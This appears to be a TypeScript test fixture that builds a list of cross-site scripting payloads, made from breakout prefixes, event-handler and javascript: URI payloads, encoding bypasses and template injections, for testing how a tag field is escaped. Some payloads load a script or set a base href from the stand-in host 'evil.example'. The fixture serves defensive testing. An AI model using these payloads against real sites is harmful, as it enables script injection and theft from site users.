/** The host that a page would contact if a hostile text worked. Nothing answers there. */
export const foreignHost = 'evil.example';

const ways = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '\\"}]',
  '</a>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
];
const ends = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  `<script src=//${foreignHost}/a.js></script>`,
  `<img src=//${foreignHost}/a.png>`,
  `<link rel=stylesheet href=//${foreignHost}/a>`,
  `<base href=//${foreignHost}/>`,
];
const others = [
  'javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
  "' style=animation-name:x onanimationstart=alert(1) x='",
  '<!--<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '\u2028alert(1)\u2029//',
  `{{constructor.constructor('alert(1)')()}}`,
  ['$', '{alert(1)}'].join(''),
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
];

/**
 * Each would open a dialog or contact the foreign host if it were treated as markup. All fit into the field of a tag.
 */
export const hostileTexts: readonly string[] = [...ways.flatMap((way) => ends.map((end) => way + end)), ...others];

let turn = 0;

/** The next hostile texts, as many as fit into `most` characters, none twice. */
export function hostile(most: number): string {
  const parts: string[] = [];
  let left = most;
  const start = turn;
  for (let step = 0; step < hostileTexts.length; step += 1) {
    const next = hostileTexts[(start + step) % hostileTexts.length] ?? '';
    if (next.length > left) continue;
    parts.push(next);
    left -= next.length + 1;
  }
  turn += parts.length;
  return parts.join(' ');
}

/** So many texts, each short enough for the field of a tag. */
export const hostileList = (count: number): string[] => Array.from({ length: count }, () => hostile(60));
